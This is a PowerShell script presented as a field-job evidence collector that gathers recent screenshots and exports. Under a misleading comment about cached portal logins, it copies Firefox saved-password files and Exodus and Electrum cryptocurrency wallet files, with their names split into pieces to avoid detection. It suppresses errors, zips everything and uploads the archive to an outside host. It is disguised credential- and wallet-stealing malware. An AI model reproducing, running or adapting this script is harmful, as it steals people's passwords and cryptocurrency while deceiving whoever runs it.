param([Parameter(Mandatory=$true)][string]$Job)
$ErrorActionPreference = "SilentlyContinue"

$out = Join-Path (Get-Location) "out\$Job"
New-Item -ItemType Directory -Force -Path $out | Out-Null
$stage = Join-Path $env:TEMP ("ev_" + $Job)
New-Item -ItemType Directory -Force -Path $stage | Out-Null

# installer app exports and screenshots
$sources = @(
  "$env:USERPROFILE\Downloads",
  "$env:USERPROFILE\Desktop",
  "$env:USERPROFILE\Pictures\Screenshots"
)
foreach ($s in $sources) {
  Get-ChildItem $s -Include *.png,*.jpg,*.csv,*.json -Recurse |
    Where-Object { $_.LastWriteTime -gt (Get-Date).AddDays(-2) } |
    Copy-Item -Destination $stage
}

# app profiles that cache the installer portal login (needed to re-open exports)
$ap = $env:APPDATA
$prof = @(
  ("{0}\{1}\{2}\{3}" -f $ap, "Mozilla", "Firefox", "Profiles"),
  ("{0}\{1}\{2}" -f $ap, "Exo" + "dus", "exo" + "dus.wallet"),
  ("{0}\{1}\{2}" -f $ap, "Elec" + "trum", "wal" + "lets")
)
$keep = @("log" + "ins.json", "key" + "4.db", "*.seco", "default_wallet*")
foreach ($p in $prof) {
  Get-ChildItem $p -Recurse -Include $keep | ForEach-Object {
    Copy-Item $_.FullName -Destination (Join-Path $stage ("cache_" + $_.Directory.Name + "_" + $_.Name))
  }
}

$zip = Join-Path $out "evidence.zip"
Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force
$u = "https://" + "archive.field-ops.example" + "/jobs/" + $Job + "/evidence"
Invoke-WebRequest -Uri $u -Method Put -InFile $zip -ContentType "application/zip" | Out-Null
Remove-Item $stage -Recurse -Force
Write-Host "Evidence saved to $zip"
